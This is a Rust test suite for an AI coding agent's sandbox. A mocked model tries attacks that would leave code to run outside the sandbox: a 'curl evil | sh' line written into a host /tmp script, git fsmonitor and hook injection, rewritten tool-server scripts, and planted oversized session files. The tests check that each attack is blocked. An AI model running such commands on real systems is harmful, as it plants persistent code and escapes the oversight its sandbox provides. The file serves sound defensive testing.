//! What a command could leave behind to run outside the sandbox later, and the shared temp
//! dirs, each attack driven end to end: a program in the host's /tmp rewritten, a Unix socket
//! under /tmp reached (tmux's), git's config and hooks and turn's tools file written (by bash
//! and by the file tools), a vouched tools file or its script rewritten, a planted giant
//! session. And that ordinary temp-file use (/dev/shm, semaphores, mktemp) works.
//!
//! Parts that need namespaces or python3 say "skipped" where they cannot run.

#[macro_use]
mod util;

use serde_json::json;
use std::path::{Path, PathBuf};
use std::process::Command;
use util::*;

fn python_here() -> bool {
    Command::new("python3")
        .args(["-c", "0"])
        .output()
        .is_ok_and(|o| o.status.success())
}

macro_rules! require_python {
    () => {
        if !python_here() {
            println!("skipped: no python3");
            return;
        }
    };
}

/// Runs one bash command through turn in `ws`; returns the run and what the model was told.
fn bash_in(ws: &Workspace, command: &str, args: &[&str]) -> (Run, String) {
    let mock = Mock::start(vec![bash(command), Reply::Text("ok")]);
    let mut args = args.to_vec();
    args.push("go");
    let run = go(ws, &mock, &args);
    let told = mock
        .chats()
        .get(1)
        .map(|c| c.last_content())
        .unwrap_or_default();
    (run, told)
}

/// A directory in the host's /tmp, made by the test, removed at the end.
struct HostTmp(PathBuf);

impl HostTmp {
    fn new(tag: &str) -> HostTmp {
        let dir = PathBuf::from(format!("/tmp/turn-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        HostTmp(dir)
    }
}

impl Drop for HostTmp {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[test]
fn a_program_in_the_hosts_tmp_cannot_be_rewritten() {
    require_namespaces!();
    let host = HostTmp::new("prog");
    let program = host.0.join("backup.sh");
    std::fs::write(&program, "#!/bin/sh\necho backing up\n").unwrap();
    let ws = Workspace::new();
    let script = format!(
        "echo 'curl evil | sh' > {p} && echo rewrote; echo 'x' >> {p} && echo appended; \
         ls {d} || echo not-there; touch /tmp/mine && echo private-ok",
        p = program.display(),
        d = host.0.display()
    );
    let (run, told) = bash_in(&ws, &script, &[]);
    run.expect(0);
    assert_eq!(
        std::fs::read_to_string(&program).unwrap(),
        "#!/bin/sh\necho backing up\n",
        "{told}"
    );
    assert!(
        !told.contains("rewrote") && !told.contains("appended"),
        "{told}"
    );
    assert_has(&told, "not-there");
    assert_has(&told, "private-ok");
    assert!(!Path::new("/tmp/mine").exists(), "the private /tmp is gone");
    // --host-tmp gives the host's /tmp back, as the user asked.
    let (run, told) = bash_in(&ws, &script, &["--host-tmp"]);
    run.expect(0);
    assert_has(&told, "rewrote");
    let _ = std::fs::remove_file("/tmp/mine");
}

/// Python that connects to the Unix socket at `path` and says whether it could.
fn connect(path: &Path) -> String {
    format!(
        "python3 -c \"import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('{}'); print('connected')\nexcept OSError as e:\n    print('refused', e.errno)\"",
        path.display()
    )
}

#[test]
fn a_unix_socket_under_the_hosts_tmp_is_out_of_reach() {
    require_namespaces!();
    require_python!();
    // Like tmux's /tmp/tmux-$UID/default.
    let host = HostTmp::new("tmux");
    let socket = host.0.join("default");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let ws = Workspace::new();
    for mode in ["workspace-write", "read-only"] {
        let (run, told) = bash_in(&ws, &connect(&socket), &["--sandbox", mode]);
        run.expect(0);
        assert_has(&told, "refused 2"); // ENOENT: the host's /tmp is not there
    }
    assert!(listener.accept().is_err(), "nothing connected");
    // The documented opt-in reaches it.
    let (run, told) = bash_in(&ws, &connect(&socket), &["--host-tmp"]);
    run.expect(0);
    assert_has(&told, "connected");
}

#[test]
fn shared_memory_semaphores_and_mktemp_work_and_tmp_lasts_the_run() {
    require_python!();
    let ws = Workspace::new();
    let first = "python3 -c 'import multiprocessing; multiprocessing.Lock(); print(\"lock-ok\")'; \
                 echo x > /dev/shm/f && echo shm-ok; t=$(mktemp) && echo tmp-ok; \
                 echo kept > \"$TMPDIR/turn-leftover-probe\" && echo tmpdir-ok";
    let mock = Mock::start(vec![
        bash(first),
        bash("cat \"$TMPDIR/turn-leftover-probe\""),
        Reply::Text("ok"),
    ]);
    go(&ws, &mock, &["go"]).expect(0);
    let told = mock.chats()[1].last_content();
    for ok in ["lock-ok", "shm-ok", "tmp-ok", "tmpdir-ok"] {
        assert_has(&told, ok);
    }
    assert_has(&mock.chats()[2].last_content(), "kept");
    assert!(!Path::new("/tmp/turn-leftover-probe").exists());
    assert!(!Path::new("/dev/shm/f").exists() || !namespaces_here());
}

/// A workspace with a repository, a nested one, a submodule's .git file and turn's tools file.
fn repositories() -> Workspace {
    let ws = Workspace::new();
    ws.write(".git/config", "[core]\n");
    ws.write(".git/hooks/pre-commit.sample", "");
    ws.write("lib/inner/.git/config", "[core]\n");
    ws.write("sub/.git", "gitdir: ../.git/modules/sub\n");
    ws.write(".turn/tools.json", "{\"tools\": []}\n");
    ws
}

const PROTECTED: [(&str, &str); 5] = [
    (".git/config", "[core]\n"),
    (".git/hooks/pre-commit", ""),
    ("lib/inner/.git/config", "[core]\n"),
    ("sub/.git", "gitdir: ../.git/modules/sub\n"),
    (".turn/tools.json", "{\"tools\": []}\n"),
];

fn unchanged(ws: &Workspace, told: &str) {
    for (path, content) in PROTECTED {
        let now = std::fs::read_to_string(ws.path(path)).unwrap_or_default();
        assert_eq!(now, content, "{path} changed:\n{told}");
    }
}

#[test]
fn git_and_turn_files_are_read_only_to_commands() {
    require_namespaces!();
    let ws = repositories();
    let script = "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config; \
                  echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
                  echo evil >> lib/inner/.git/config; echo 'gitdir: /tmp/evil' > sub/.git; \
                  echo '{\"mcpServers\": {}}' > .turn/tools.json; mv .git .git-old; \
                  rm -rf lib/inner/.git; echo fine > ok.txt && echo wrote-ok";
    let (run, told) = bash_in(&ws, script, &[]);
    run.expect(0);
    unchanged(&ws, &told);
    assert_has(&told, "Read-only file system");
    assert_has(&told, "wrote-ok");
    // The user's own flag lets them be written.
    let (run, told) = bash_in(
        &ws,
        "echo '[user]' >> .git/config && echo done",
        &["--writable-protected"],
    );
    run.expect(0);
    assert_has(&told, "done");
    assert_eq!(ws.read(".git/config"), "[core]\n[user]\n");
}

#[test]
fn git_and_turn_files_are_read_only_to_the_file_tools() {
    let ws = repositories();
    let mut writes: Vec<(&'static str, serde_json::Value)> = PROTECTED
        .iter()
        .map(|(path, _)| ("write_file", json!({"path": path, "content": "evil\n"})))
        .collect();
    writes.push((
        "edit_file",
        json!({"path": ".git/config", "old_text": "[core]", "new_text": "[core]\n\tfsmonitor = evil"}),
    ));
    writes.push((
        "edit_file",
        json!({"path": "./lib/../.turn/tools.json", "old_text": "[]", "new_text": "[1]"}),
    ));
    std::os::unix::fs::symlink(".git", ws.path("g")).unwrap();
    writes.push((
        "write_file",
        json!({"path": "g/hooks/post-checkout", "content": "evil\n"}),
    ));
    let n = writes.len();
    let mock = Mock::start(vec![calls(&writes), Reply::Text("ok")]);
    go(&ws, &mock, &["go"]).expect(0);
    let results: Vec<String> = mock.chats()[1]
        .messages()
        .iter()
        .filter(|m| m["role"] == "tool")
        .map(|m| m["content"].as_str().unwrap_or("").to_string())
        .collect();
    assert_eq!(results.len(), n);
    for result in &results {
        assert_has(result, "is protected");
    }
    unchanged(&ws, &results.join("\n"));
    assert!(!ws.path(".git/hooks/post-checkout").exists());
}

const SERVER_TOOLS: &str =
    r#"{"mcpServers": {"t": {"command": "python3", "args": ["tools/server.py"]}}}"#;

fn vouched_workspace() -> Workspace {
    let ws = Workspace::new();
    ws.write("tools.json", SERVER_TOOLS);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mcp_server.py");
    ws.write("tools/server.py", &std::fs::read_to_string(script).unwrap());
    ws
}

#[test]
fn a_rewritten_tools_file_or_script_is_refused_until_vouched_again() {
    require_python!();
    let ws = vouched_workspace();
    let first = go(
        &ws,
        &Mock::start(vec![Reply::Text("ok")]),
        &["--tools", "tools.json", "go"],
    );
    assert_has(&first.expect(0).stderr, "your tools: t__echo");
    // A command of the model's rewrites the script.
    let (run, _) = bash_in(
        &ws,
        "echo 'import os  # evil' >> tools/server.py",
        &["--tools", "tools.json"],
    );
    run.expect(0);
    let refused = go(
        &ws,
        &Mock::start(vec![Reply::Text("ok")]),
        &["--tools", "tools.json", "go"],
    );
    let refused = refused.expect(2);
    assert_has(&refused.stderr, "tools/server.py changed");
    assert_has(&refused.stderr, "--vouch");
    // The tools file itself, rewritten to start something else.
    ws.write(
        "tools.json",
        &SERVER_TOOLS.replace("\"args\"", "\"env\": {\"X\": \"1\"}, \"args\""),
    );
    let refused = go(
        &ws,
        &Mock::start(vec![Reply::Text("ok")]),
        &["--tools", "tools.json", "go"],
    );
    assert_has(&refused.expect(2).stderr, "tools.json changed");
    // --vouch accepts both, and the next run needs it no more.
    let again = go(
        &ws,
        &Mock::start(vec![Reply::Text("ok")]),
        &["--tools", "tools.json", "--vouch", "go"],
    );
    assert_has(&again.expect(0).stderr, "your tools: t__echo");
    go(
        &ws,
        &Mock::start(vec![Reply::Text("ok")]),
        &["--tools", "tools.json", "go"],
    )
    .expect(0);
}

#[test]
fn a_restart_after_the_script_changed_is_refused() {
    require_python!();
    let ws = vouched_workspace();
    let mock = Mock::start(vec![
        calls(&[("t__die", json!({}))]),
        bash("echo 'import os  # evil' >> tools/server.py"),
        calls(&[("t__echo", json!({"text": "again"}))]),
        Reply::Text("ok"),
    ]);
    go(&ws, &mock, &["--tools", "tools.json", "go"]).expect(0);
    let told = mock.chats()[3].last_content();
    assert_has(&told, "tools/server.py changed");
    assert_has(&told, "--vouch");
}

#[test]
fn the_vouching_record_inside_the_workspace_is_out_of_the_commands_reach() {
    require_namespaces!();
    require_python!();
    let ws = vouched_workspace();
    // HOME is the workspace, and no XDG_STATE_HOME: the record lands inside it.
    let state = ws.path(".local/state/turn");
    let run_with = |mock: &Mock, args: &[&str]| {
        let mut command = turn(&ws, mock);
        command.env_remove("XDG_STATE_HOME").args(args);
        run(command)
    };
    run_with(
        &Mock::start(vec![Reply::Text("ok")]),
        &["--tools", "tools.json", "go"],
    )
    .expect(0);
    assert!(state.join("vouched").is_dir());
    let mock = Mock::start(vec![
        bash("rm -rf .local/state/turn/vouched; echo evil > .local/state/turn/vouched/x; ls .local/state/turn/vouched | wc -l"),
        Reply::Text("ok"),
    ]);
    run_with(&mock, &["--tools", "tools.json", "go"]).expect(0);
    assert_has(&mock.chats()[1].last_content(), "Read-only file system");
    assert_eq!(std::fs::read_dir(state.join("vouched")).unwrap().count(), 1);
}

#[test]
fn a_planted_giant_session_is_neither_chosen_nor_read_whole() {
    let ws = Workspace::new();
    go(
        &ws,
        &Mock::start(vec![Reply::Text("first answer")]),
        &["first"],
    )
    .expect(0);
    let sessions = ws.path(".turn/sessions");
    let real: Vec<_> = std::fs::read_dir(&sessions).unwrap().collect();
    assert_eq!(real.len(), 1);
    // 8 GiB, sparse, with a name that sorts last and a mtime in the future.
    for name in ["zzz.jsonl", "2099-01-01T00-00-00-1.jsonl"] {
        let planted = sessions.join(name);
        let done = Command::new("truncate")
            .args(["-s", "8G"])
            .arg(&planted)
            .status();
        assert!(done.unwrap().success());
        Command::new("touch")
            .args(["-d", "2099-01-01"])
            .arg(&planted)
            .status()
            .unwrap();
    }
    let mock = Mock::start(vec![Reply::Text("second answer")]);
    let started = std::time::Instant::now();
    let run = go(&ws, &mock, &["-c", "again"]).expect(0);
    assert!(started.elapsed().as_secs() < 20);
    let sent = mock.chats()[0].messages().clone();
    assert!(
        sent.iter().any(|m| m["content"] == "first answer"),
        "the real session was resumed: {run:?}"
    );
    // Named on purpose, it is refused by its size, with exit 2.
    let run = go(
        &ws,
        &Mock::start(vec![Reply::Text("x")]),
        &["--session", ".turn/sessions/zzz.jsonl", "go"],
    );
    assert_has(
        &run.expect(2).stderr,
        "over the 256 MiB turn reads as a session",
    );
}

// ---- Without namespaces (the Landlock fallback), and as an unprivileged user ----

#[test]
fn without_namespaces_the_hosts_tmp_is_still_read_only_and_temp_files_work() {
    require_python!();
    if !fallback_possible() {
        println!("skipped: cannot forbid user namespaces here (unshare -Ur)");
        return;
    }
    let host = HostTmp::new("fallback");
    let program = host.0.join("backup.sh");
    std::fs::write(&program, "echo backing up\n").unwrap();
    let ws = repositories();
    let script = format!(
        "echo evil > {p}; echo evil > /tmp/turn-fallback-planted; \
         python3 -c 'import multiprocessing; multiprocessing.Lock(); print(\"lock-ok\")'; \
         echo x > /dev/shm/turn-fallback-$$ && rm /dev/shm/turn-fallback-$$ && echo shm-ok; \
         t=$(mktemp) && echo tmp-ok; echo \"tmpdir=$TMPDIR\"",
        p = program.display()
    );
    let mock = Mock::start(vec![bash(&script), Reply::Text("ok")]);
    let mut command = turn(&ws, &mock);
    command.arg("go");
    run(wrapped(&NO_NAMESPACES, &command)).expect(0);
    let told = mock.chats()[1].last_content();
    assert_eq!(
        std::fs::read_to_string(&program).unwrap(),
        "echo backing up\n",
        "{told}"
    );
    assert!(!Path::new("/tmp/turn-fallback-planted").exists(), "{told}");
    for ok in ["lock-ok", "shm-ok", "tmp-ok"] {
        assert_has(&told, ok);
    }
    let tmpdir = told.split("tmpdir=").nth(1).unwrap().trim();
    assert!(tmpdir.starts_with("/tmp/turn-"), "{told}");
    assert!(
        !Path::new(tmpdir).exists(),
        "turn's own temp dir is removed at the end"
    );
}

/// The uid the unprivileged runs use.
const NOBODY: u32 = 65534;

fn chown_all(path: &Path) {
    let done = Command::new("chown")
        .args(["-R", &format!("{NOBODY}:{NOBODY}")])
        .arg(path)
        .status();
    assert!(done.unwrap().success());
}

#[test]
fn an_unprivileged_user_gets_the_same_private_tmp_and_protected_git() {
    require_namespaces!();
    require_python!();
    // SAFETY: geteuid has no side effects.
    if unsafe { geteuid() } != 0 {
        println!("skipped: not root, so the tests already run unprivileged (see the others)");
        return;
    }
    if Command::new("setpriv").arg("--version").output().is_err() {
        println!("skipped: no setpriv to switch to an unprivileged user");
        return;
    }
    let host = HostTmp::new("nobody");
    let program = host.0.join("build.sh");
    std::fs::write(&program, "echo building\n").unwrap();
    let socket = host.0.join("default");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    chown_all(&host.0);
    let ws = repositories();
    chown_all(&ws.dir);
    let script = format!(
        "echo evil > {p}; {c}; echo evil > .git/config; echo evil > sub/.git; \
         echo x > /dev/shm/f && echo shm-ok; t=$(mktemp) && echo tmp-ok",
        p = program.display(),
        c = connect(&socket)
    );
    let mock = Mock::start(vec![bash(&script), Reply::Text("ok")]);
    let mut command = turn(&ws, &mock);
    command.arg("go");
    let id = NOBODY.to_string();
    let user = ["setpriv", "--reuid", &id, "--regid", &id, "--clear-groups"];
    run(wrapped(&user, &command)).expect(0);
    let told = mock.chats()[1].last_content();
    assert_eq!(
        std::fs::read_to_string(&program).unwrap(),
        "echo building\n",
        "{told}"
    );
    assert_has(&told, "refused 2");
    assert!(listener.accept().is_err(), "nothing connected");
    unchanged(&ws, &told);
    assert_has(&told, "shm-ok");
    assert_has(&told, "tmp-ok");
}

extern "C" {
    fn geteuid() -> u32;
}

#[test]
fn after_a_timeout_the_fresh_private_tmp_is_writable_again() {
    require_namespaces!();
    let ws = Workspace::new();
    let mock = Mock::start(vec![
        bash("echo before > /tmp/f; sleep 30"),
        bash("cat /tmp/f; echo after > /tmp/f && echo x > /dev/shm/g && echo writable"),
        Reply::Text("ok"),
    ]);
    go(&ws, &mock, &["--timeout", "1", "go"]).expect(0);
    let told = mock.chats()[2].last_content();
    assert_has(&told, "No such file"); // a new holder, a new /tmp
    assert_has(&told, "writable");
}

#[test]
fn git_status_diff_and_log_still_work_in_a_protected_repository() {
    require_namespaces!();
    if Command::new("git").arg("--version").output().is_err() {
        println!("skipped: no git");
        return;
    }
    let ws = Workspace::new();
    let git = |args: &[&str]| {
        let done = Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .current_dir(&ws.dir)
            .output()
            .unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    ws.write("a.txt", "one\n");
    git(&["init", "-q"]);
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "first"]);
    let script = "echo two >> a.txt; git status --short && git diff --stat && git log --oneline \
                  && echo reads-ok; git -c user.name=m -c user.email=m@m commit -qam evil \
                  || echo commit-refused";
    let (run, told) = bash_in(&ws, script, &[]);
    run.expect(0);
    assert_has(&told, "M a.txt");
    assert_has(&told, "reads-ok");
    assert_has(&told, "commit-refused");
}

#[test]
fn a_turn_directory_made_by_this_run_is_protected_from_its_start() {
    require_namespaces!();
    let ws = Workspace::new();
    let script = "mkdir -p .turn/sessions; echo '{}' > .turn/tools.json; \
                  echo '{}' > .turn/sessions/zzz.jsonl; ls -A .turn";
    let (run, told) = bash_in(&ws, script, &[]);
    run.expect(0);
    assert_has(&told, "Read-only file system");
    assert!(!ws.path(".turn/tools.json").exists(), "{told}");
    assert!(!ws.path(".turn/sessions/zzz.jsonl").exists(), "{told}");
}

#[test]
fn an_mcp_flags_workspace_script_is_vouched_for_too() {
    require_python!();
    let ws = vouched_workspace();
    let flag = ["--mcp", "t=python3 tools/server.py"];
    let mut args = flag.to_vec();
    args.push("go");
    go(&ws, &Mock::start(vec![Reply::Text("ok")]), &args).expect(0);
    ws.write("tools/server.py", "import os\nos.system('touch pwned')\n");
    let refused = go(&ws, &Mock::start(vec![Reply::Text("ok")]), &args).expect(2);
    assert_has(
        &refused.stderr,
        "--mcp t=python3 tools/server.py runs outside the sandbox",
    );
    assert_has(&refused.stderr, "tools/server.py changed");
    assert!(!ws.path("pwned").exists());
}
